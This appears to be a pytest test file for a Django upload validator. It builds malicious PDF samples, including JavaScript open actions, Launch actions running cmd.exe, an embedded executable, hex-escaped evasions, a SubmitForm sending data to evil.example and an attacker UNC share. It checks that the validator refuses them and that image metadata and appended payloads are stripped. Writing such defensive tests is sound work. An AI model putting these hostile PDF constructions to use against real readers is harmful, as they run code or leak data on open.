"""What is inside an upload: PDFs with scripts, launch actions or embedded files are refused with a clear
message; images are stored re-encoded, without EXIF, text chunks or anything appended after the picture."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from demo import factories as f
from jxjy.core.uploads import check_upload

from .prefiling_helpers import PLAN, snapshot
from .test_uploads import attachment_errors, new_attachments, post_files

RISK = "存在安全风险，不允许上传"


def checked(name: str, content: bytes):
    return check_upload(SimpleUploadedFile(name, content))


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        checked(name, content)
    return refused.value.messages[0]


# ---- PDFs ----


JS = TextStringObject("app.alert(1)")


def pdf_bytes(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    d = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    d.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return d


def open_action(kind: str, **entries):
    def build(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))

    return build


def document_script(writer):
    """JavaScript in the document's name tree, run when the file opens."""
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), action("/JavaScript", JS=JS)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def link_with(act: DictionaryObject):
    def build(writer):
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
            NameObject("/A"): act,
        })  # fmt: skip
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return build


def raw_pdf(catalog_extra: bytes) -> bytes:
    """A hand-written PDF (names may be spelt with #xx escapes, as an attacker would)."""
    objs = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % xref


@pytest.mark.parametrize(
    "content, what",
    [
        (pdf_bytes(document_script), "JavaScript脚本"),
        (pdf_bytes(open_action("/JavaScript", JS=JS)), "JavaScript脚本"),
        (pdf_bytes(link_with(action("/JavaScript", JS=JS))), "JavaScript脚本"),
        (pdf_bytes(open_action("/Launch", F=TextStringObject("cmd.exe"))), "启动外部程序的动作"),
        (pdf_bytes(link_with(action("/Launch", F=TextStringObject("calc.exe")))), "启动外部程序的动作"),
        (pdf_bytes(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")), "嵌入文件"),
        (raw_pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), "JavaScript脚本"),
        (raw_pdf(b"/OpenAction<</S/#4caunch/F(cmd.exe)>>"), "启动外部程序的动作"),
        # The corpus of the penetration test: every kind of active content a reader may run by itself.
        (
            raw_pdf(b"/AcroForm<</Fields[]/XFA[(template)(<template><script>app.alert(1)</script></template>)]>>"),
            "XFA动态表单（可含脚本）",
        ),
        (raw_pdf(b"/OpenAction<</S/URI/URI(http://evil.example/x)>>"), "打开文件时自动执行的动作"),
        (
            raw_pdf(b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil.example/collect)>>>>"),
            "向外发送表单数据的动作",
        ),
        (raw_pdf(b"/OpenAction<</S/GoToR/F(\\\\attacker\\share\\x.pdf)/D[0/Fit]>>"), "打开其他文件的动作"),
        (raw_pdf(b"/OpenAction<</S/GoToE/T<</R/C/N(x)>>>>"), "打开其他文件的动作"),
        (raw_pdf(b"/OpenAction<</S/ImportData/F(data.fdf)>>"), "导入外部数据的动作"),
        (raw_pdf(b"/AA<</WC<</S/URI/URI(https://example.org/)>>>>"), "自动执行的动作"),
        (raw_pdf(b"/Names<</X<</Subtype/RichMedia/RichMediaContent<<>>>>>>"), "多媒体或3D内容"),
        (raw_pdf(b"/X<</Type/3D/Subtype/U3D>>"), "多媒体或3D内容"),
        (raw_pdf(b"/X<</S/Sound/Sound 9 0 R>>"), "多媒体或3D内容"),
        (raw_pdf(b"/X<</S/URI/URI(file:///etc/passwd)>>"), "指向本机、局域网或非网页地址的链接"),
        (raw_pdf(b"/X<</S/URI/URI(\\\\host\\share)>>"), "指向本机、局域网或非网页地址的链接"),
        (raw_pdf(b"") + b"9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n", "JavaScript脚本"),  # listed nowhere
    ],
    ids=[
        "names-tree",
        "open-action",
        "link",
        "launch",
        "launch-link",
        "embedded",
        "escaped-js",
        "escaped-launch",
        "xfa",
        "open-uri",
        "submit-form",
        "gotor-unc",
        "gotoe",
        "import-data",
        "aa",
        "rich-media",
        "3d",
        "sound",
        "file-link",
        "unc-link",
        "unlisted-object",
    ],
)
def test_dangerous_pdfs_are_refused_with_a_clear_message(content, what):
    message = refusal(f"{PLAN}.pdf", content)
    assert message.startswith(f"文件「{PLAN}.pdf」含有{what}，{RISK}"), message


def test_a_pdf_with_an_ordinary_web_link_is_accepted():
    content = pdf_bytes(link_with(action("/URI", URI=TextStringObject("https://example.org/"))))
    assert checked("通知.pdf", content).content == content


def test_an_unreadable_pdf_is_refused():
    message = refusal("通知.pdf", b"%PDF-1.4\n1 0 obj<</JS(app.alert(1))>>endobj\n")
    assert "PDF文件无法读取" in message


def test_an_encrypted_pdf_is_refused():
    def encrypt(writer):
        writer.encrypt(user_password="", owner_password="x", algorithm="RC4-128")

    assert "PDF文件无法读取" in refusal("通知.pdf", pdf_bytes(encrypt))


def test_the_form_shows_the_refusal_and_stores_nothing(client_for, base_user, filing):
    before = snapshot(filing)
    bad = SimpleUploadedFile(f"{PLAN}.pdf", pdf_bytes(document_script))
    response = post_files(client_for(base_user), filing, upload_plan=bad)
    assert any("含有JavaScript脚本" in e for e in attachment_errors(response))
    assert new_attachments(filing, before) == []


# ---- images ----

PAYLOAD = b'PK\x03\x04<html><script>alert("x")</script></html>'


def jpeg_with_exif() -> bytes:
    img = Image.new("RGB", (32, 24), "blue")
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to show upright
    exif[0x8825] = {1: "N", 2: (43.0, 47.0, 30.0)}  # GPS
    out = io.BytesIO()
    img.save(out, format="JPEG", exif=exif, comment=b"private comment")
    return out.getvalue()


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "张三 650102199001011239")
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (255, 0, 0, 128)).save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def stored(name: str, content: bytes) -> bytes:
    return checked(name, content).content


def test_exif_and_comments_are_removed_and_the_photo_stays_upright():
    original = jpeg_with_exif()
    assert b"SecretCam" in original and b"private comment" in original
    data = stored("现场照片.jpg", original)
    assert b"SecretCam" not in data and b"private comment" not in data and b"Exif" not in data
    img = Image.open(io.BytesIO(data))
    assert not img.getexif() and img.size == (24, 32)


def test_png_text_chunks_are_removed_and_transparency_kept():
    data = stored("场地平面图.png", png_with_text())
    assert b"650102" not in data and b"tEXt" not in data
    assert Image.open(io.BytesIO(data)).getpixel((0, 0)) == (255, 0, 0, 128)


@pytest.mark.parametrize("name, fmt", [("照片.png", "PNG"), ("照片.jpg", "JPEG")])
def test_a_payload_appended_after_the_image_is_gone(name, fmt):
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "green").save(out, format=fmt)
    polyglot = out.getvalue() + PAYLOAD
    data = stored(name, polyglot)
    assert PAYLOAD not in data and b"<script>" not in data
    assert Image.open(io.BytesIO(data)).size == (8, 8)


def test_the_stored_attachment_is_the_cleaned_image(client_for, base_user, filing):
    before = snapshot(filing)
    post_files(client_for(base_user), filing, upload_other=SimpleUploadedFile("现场照片.jpg", jpeg_with_exif()))
    (attachment,) = new_attachments(filing, before)
    with attachment.file.open("rb") as f_:
        data = f_.read()
    assert b"SecretCam" not in data and attachment.size == len(data)


def test_a_broken_image_is_refused():
    message = refusal("照片.png", f.PNG)  # a PNG signature and nothing decodable after it
    assert "图片无法读取" in message


def test_a_decompression_bomb_is_refused():
    out = io.BytesIO()
    Image.new("1", (7000, 7000)).save(out, format="PNG")
    assert len(out.getvalue()) < 2 * 1024 * 1024
    assert "图片尺寸过大" in refusal("平面图.png", out.getvalue())
